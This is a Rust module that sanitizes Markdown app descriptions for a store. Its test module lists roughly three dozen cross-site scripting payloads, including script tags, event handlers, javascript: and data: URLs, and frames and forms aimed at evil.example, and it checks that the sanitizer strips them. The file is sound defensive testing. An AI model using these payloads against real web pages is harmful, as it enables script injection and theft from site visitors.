//! An app's description is Markdown, written by the app's developer — hostile input shown to
//! every organization admin who browses the store. It is rendered to HTML here and only here:
//! raw HTML in it is shown as text, never passed through; the result is then cleaned by
//! `ammonia` (an allow-list: no scripts, event handlers, styles, frames, forms or SVG; links
//! only to http(s) and mailto, opened without the store's window or referrer).

use pulldown_cmark::{Event, Options, Parser};

/// Safe HTML for `markdown`.
pub fn to_safe_html(markdown: &str) -> String {
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    options.insert(Options::ENABLE_TASKLISTS);
    // Raw HTML, in a block or inline, is text.
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        Event::Html(html) | Event::InlineHtml(html) => Event::Text(html),
        other => other,
    });
    let mut html = String::with_capacity(markdown.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut html, events);
    ammonia::Builder::default()
        .url_schemes(["http", "https", "mailto"].into_iter().collect())
        .link_rel(Some("noopener noreferrer nofollow ugc"))
        .clean(&html)
        .to_string()
}

/// The words of `markdown` without its markup (what search indexes).
pub fn to_plain_text(markdown: &str) -> String {
    let mut text = String::with_capacity(markdown.len());
    for event in Parser::new(markdown) {
        if let Event::Text(t) | Event::Code(t) | Event::Html(t) | Event::InlineHtml(t) = event {
            text.push_str(&t);
            text.push(' ');
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::to_safe_html;

    #[test]
    fn renders_markdown() {
        let html = to_safe_html(
            "# CRM\n\nDeals **closed** faster. [Docs](https://crm.example/docs)\n\n- one\n- two",
        );
        assert!(html.contains("<h1>CRM</h1>"), "{html}");
        assert!(html.contains("<strong>closed</strong>"), "{html}");
        assert!(
            html.contains("<a href=\"https://crm.example/docs\" rel=\"noopener noreferrer nofollow ugc\">Docs</a>"),
            "{html}"
        );
        assert!(html.contains("<li>two</li>"), "{html}");
    }

    /// Hostile descriptions: nothing that runs, loads a frame, styles the page or phones home
    /// through a script survives.
    #[test]
    fn strips_every_payload() {
        let payloads = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"x\" onerror=\"alert(1)\">",
            "<body onload=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"javascript:alert(1)\">",
            "<form action=\"https://evil.example\"><input name=p></form>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](  javascript:alert(1))",
            "[click](javascript&#58;alert(1))",
            "[click](vbscript:msgbox(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![x](javascript:alert(1))",
            "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<base href=\"https://evil.example/\">",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=\"alert(1)\"></video>",
            "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<<script>script>alert(1)<</script>/script>",
            "<scr<script>ipt>alert(1)</script>",
            "`<script>` stays code, [a](https://ok.example \"t\\\" onmouseover=alert(1) x=\\\"\")",
            "<textarea><script>alert(1)</script></textarea>",
        ];
        assert!(payloads.len() >= 30);
        for payload in payloads {
            let html = to_safe_html(payload);
            for (tag, attributes) in tags(&html) {
                assert!(
                    ALLOWED_TAGS.contains(&tag.as_str()),
                    "<{tag}> survived {payload:?} -> {html}"
                );
                for (name, value) in attributes {
                    assert!(
                        ["href", "src", "alt", "title", "rel"].contains(&name.as_str()),
                        "attribute {name} survived {payload:?} -> {html}"
                    );
                    if name == "href" || name == "src" {
                        let scheme = value.split(':').next().unwrap_or_default().to_lowercase();
                        assert!(
                            !value.contains(':')
                                || ["http", "https", "mailto"].contains(&scheme.as_str()),
                            "{name}={value} survived {payload:?} -> {html}"
                        );
                    }
                }
            }
        }
    }

    const ALLOWED_TAGS: &[&str] = &[
        "p",
        "a",
        "img",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
        "blockquote",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "del",
        "hr",
        "br",
    ];

    /// The live tags of `html` (a `<` in text is escaped, so every `<` opens one) with their
    /// attributes.
    fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
        let mut found = Vec::new();
        for piece in html.split('<').skip(1) {
            let inside = piece.split('>').next().unwrap_or_default();
            if inside.starts_with('/') {
                continue;
            }
            let mut rest = inside.trim_end_matches('/');
            let name_end = rest.find(char::is_whitespace).unwrap_or(rest.len());
            let name = rest[..name_end].to_lowercase();
            rest = &rest[name_end..];
            let mut attributes = Vec::new();
            while let Some(eq) = rest.find('=') {
                let attribute = rest[..eq].trim().to_lowercase();
                let after = rest[eq + 1..].trim_start();
                let (value, remaining) = match after.strip_prefix('"') {
                    Some(quoted) => {
                        let end = quoted.find('"').unwrap_or(quoted.len());
                        (&quoted[..end], quoted.get(end + 1..).unwrap_or_default())
                    }
                    None => {
                        let end = after.find(char::is_whitespace).unwrap_or(after.len());
                        (&after[..end], &after[end..])
                    }
                };
                attributes.push((attribute, value.replace("&amp;", "&")));
                rest = remaining;
            }
            found.push((name, attributes));
        }
        found
    }
}
